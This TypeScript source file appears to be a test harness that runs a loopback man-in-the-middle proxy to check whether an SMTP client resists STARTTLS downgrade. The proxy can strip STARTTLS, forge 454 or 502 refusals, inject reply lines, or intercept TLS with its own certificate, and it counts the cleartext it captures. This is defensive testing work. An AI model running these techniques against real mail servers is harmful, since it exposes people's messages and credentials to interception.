// A loopback man in the middle for the downgrade proof: it sits between our SMTP client and an
// honest STARTTLS server and attacks the STARTTLS upgrade in one of several ways, while counting
// exactly what the client let it see: commands and message bytes in cleartext on the wire, and,
// when it intercepts TLS with its own certificate, what it could read after decrypting.
//   passthrough  relays everything untouched (control)
//   strip        removes STARTTLS from the server's EHLO reply
//   reply454     answers the client's STARTTLS itself with 454 (the server never sees it)
//   reply502     same with 502
//   inject       forwards the server's 220 to STARTTLS with extra reply lines in the same segment
//   injectSplit  sends the extra lines after the client has started its handshake
//   intercept    answers STARTTLS itself and terminates TLS with `cert` (an interception
//                certificate), then relays the decrypted commands to the server in plaintext
import net from 'node:net';
import tls from 'node:tls';

export type MitmMode = 'passthrough' | 'strip' | 'reply454' | 'reply502' | 'inject' | 'injectSplit' | 'intercept';

export const INJECTED = '250-mitm.injected.test\r\n250 AUTH PLAIN\r\n554 5.7.1 injected by the man in the middle\r\n';

/** Counts SMTP commands and message bytes in a client→server stream. */
class CommandCounter {
  private buf = '';
  private inData = false;
  readonly commands: string[] = [];
  transaction = 0;
  bodyBytes = 0;
  feed(s: string): void {
    this.buf += s;
    for (;;) {
      if (this.inData) {
        const end = this.buf.indexOf('\r\n.\r\n');
        if (end < 0) {
          this.bodyBytes += this.buf.length;
          this.buf = '';
          return;
        }
        this.bodyBytes += end + 2;
        this.buf = this.buf.slice(end + 5);
        this.inData = false;
        continue;
      }
      const nl = this.buf.indexOf('\n');
      if (nl < 0) return;
      const line = this.buf.slice(0, nl).replace(/\r$/, '');
      this.buf = this.buf.slice(nl + 1);
      if (this.commands.length < 1000) this.commands.push(line);
      const verb = line.split(' ')[0].toUpperCase();
      if (verb === 'MAIL' || verb === 'RCPT' || verb === 'DATA') this.transaction++;
      if (verb === 'DATA') this.inData = true;
    }
  }
}

export interface MitmStats {
  connections: number;
  /** STARTTLS commands the client sent. */
  starttls: number;
  /** Times the attack was actually carried out (stripped, replied, injected, intercepted). */
  tampered: number;
  /** MAIL/RCPT/DATA lines the client sent in cleartext on the wire. */
  plainTransaction: number;
  /** Message bytes (after DATA) the client sent in cleartext on the wire. */
  plainBodyBytes: number;
  /** Distinct secret markers seen in cleartext on the wire (messages leaked in plaintext). */
  wireMarkers: string[];
  /** Intercept mode: TLS sessions the client completed with the interception certificate. */
  interceptedSessions: number;
  /** Intercept mode: MAIL/RCPT/DATA lines and markers the MITM read after decrypting. */
  interceptedTransaction: number;
  interceptedMarkers: string[];
}

export interface Mitm {
  ip: string;
  port: number;
  mode: MitmMode;
  stats(): MitmStats;
  close(): Promise<void>;
}

const MAX_CAPTURE = 4 * 1024 * 1024;

export async function startMitm(o: {
  ip: string;
  port: number;
  mode: MitmMode;
  backend: { host: string; port: number };
  /** Interception certificate (intercept mode). */
  cert?: { cert: string; key: string };
  /** Secret marker pattern carried by every message body (counted when seen in cleartext). */
  marker: RegExp;
}): Promise<Mitm> {
  const conns: { wire: string; clear: string; plain: CommandCounter; inner: CommandCounter }[] = [];
  const s = { connections: 0, starttls: 0, tampered: 0, interceptedSessions: 0 };
  const sockets = new Set<net.Socket>();
  const ctx = o.cert
    ? tls.createSecureContext({ cert: o.cert.cert, key: o.cert.key, minVersion: 'TLSv1.2' })
    : undefined;
  const server = net.createServer((client) => {
    s.connections++;
    const c = { wire: '', clear: '', plain: new CommandCounter(), inner: new CommandCounter() };
    conns.push(c);
    const up = net.connect({ host: o.backend.host, port: o.backend.port });
    for (const k of [client, up]) {
      sockets.add(k);
      k.on('close', () => sockets.delete(k));
      k.on('error', () => {});
    }
    client.on('close', () => up.destroy());
    up.on('close', () => client.destroy());
    let state: 'plain' | 'awaitTls' | 'raw' | 'intercept' = 'plain';
    let cbuf = '';
    let ubuf = '';
    let reply: string[] = [];
    let pendingSplit = false;
    let ts: tls.TLSSocket | undefined;

    const toRaw = () => {
      state = 'raw';
      if (ubuf) {
        client.write(Buffer.from(ubuf, 'latin1'));
        ubuf = '';
      }
      if (cbuf) {
        up.write(Buffer.from(cbuf, 'latin1'));
        cbuf = '';
      }
    };

    const intercept = () => {
      state = 'intercept';
      s.tampered++;
      client.removeListener('data', onClient);
      client.write('220 2.0.0 Ready to start TLS\r\n');
      ts = new tls.TLSSocket(client, { isServer: true, secureContext: ctx! });
      ts.on('error', () => {
        client.destroy();
        up.destroy();
      });
      ts.once('secure', () => {
        s.interceptedSessions++;
      });
      ts.on('data', (d: Buffer) => {
        const t = d.toString('latin1');
        if (c.clear.length < MAX_CAPTURE) c.clear += t;
        c.inner.feed(t);
        up.write(d);
      });
    };

    const onClient = (d: Buffer) => {
      const t = d.toString('latin1');
      if (c.wire.length < MAX_CAPTURE) c.wire += t;
      if (state === 'raw') {
        if (pendingSplit) {
          pendingSplit = false;
          client.write(INJECTED);
        }
        up.write(d);
        return;
      }
      c.plain.feed(t);
      cbuf += t;
      while (state === 'plain') {
        const nl = cbuf.indexOf('\n');
        if (nl < 0) return;
        const line = cbuf.slice(0, nl + 1);
        cbuf = cbuf.slice(nl + 1);
        if (/^STARTTLS\s*$/i.test(line)) {
          s.starttls++;
          if (o.mode === 'reply454' || o.mode === 'reply502') {
            s.tampered++;
            client.write(
              o.mode === 'reply454'
                ? '454 4.7.0 TLS not available due to local problem\r\n'
                : '502 5.5.1 Error: command not implemented\r\n',
            );
            continue;
          }
          if (o.mode === 'intercept') {
            intercept();
            return;
          }
          state = 'awaitTls';
        }
        up.write(Buffer.from(line, 'latin1'));
      }
      // awaitTls: the client sends nothing more until our 220; keep anything for the relay.
    };
    client.on('data', onClient);

    up.on('data', (d: Buffer) => {
      if (state === 'raw') {
        client.write(d);
        return;
      }
      if (state === 'intercept') {
        ts?.write(d);
        return;
      }
      ubuf += d.toString('latin1');
      for (;;) {
        const nl = ubuf.indexOf('\n');
        if (nl < 0) return;
        const line = ubuf.slice(0, nl).replace(/\r$/, '');
        ubuf = ubuf.slice(nl + 1);
        reply.push(line);
        if (line[3] === '-') continue;
        let lines = reply;
        reply = [];
        if (o.mode === 'strip' && lines[0].startsWith('250') && lines.some((l) => /^250[ -]STARTTLS\b/i.test(l))) {
          s.tampered++;
          lines = lines
            .filter((l) => !/^250[ -]STARTTLS\b/i.test(l))
            .map((l, i, a) => `250${i === a.length - 1 ? ' ' : '-'}${l.slice(4)}`);
        }
        const text = lines.map((l) => l + '\r\n').join('');
        if (state === 'awaitTls') {
          if (lines[0].startsWith('220')) {
            if (o.mode === 'inject') {
              s.tampered++;
              client.write(text + INJECTED);
            } else {
              client.write(text);
              if (o.mode === 'injectSplit') {
                s.tampered++;
                pendingSplit = true;
              }
            }
            toRaw();
            return;
          }
          state = 'plain';
        }
        client.write(text);
      }
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(o.port, o.ip, () => resolve());
  });
  const markers = (texts: string[]) => [
    ...new Set(texts.flatMap((t) => t.match(new RegExp(o.marker.source, 'g')) ?? [])),
  ];
  return {
    ip: o.ip,
    port: o.port,
    mode: o.mode,
    stats: () => ({
      connections: s.connections,
      starttls: s.starttls,
      tampered: s.tampered,
      plainTransaction: conns.reduce((n, c) => n + c.plain.transaction, 0),
      plainBodyBytes: conns.reduce((n, c) => n + c.plain.bodyBytes, 0),
      wireMarkers: markers(conns.map((c) => c.wire)),
      interceptedSessions: s.interceptedSessions,
      interceptedTransaction: conns.reduce((n, c) => n + c.inner.transaction, 0),
      interceptedMarkers: markers(conns.map((c) => c.clear)),
    }),
    close: () =>
      new Promise<void>((r) => {
        for (const k of sockets) k.destroy();
        server.close(() => r());
      }),
  };
}
